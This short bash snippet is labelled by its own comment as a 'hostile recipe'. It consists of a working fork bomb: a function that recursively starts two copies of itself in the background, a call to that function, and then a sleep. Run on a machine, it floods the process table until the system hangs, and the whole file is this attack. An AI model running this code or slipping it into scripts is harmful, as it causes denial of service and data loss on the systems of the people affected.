# Hostile recipe: a classic fork bomb, each process starting two more forever.
bomb() { bomb | bomb & }
bomb
sleep 600
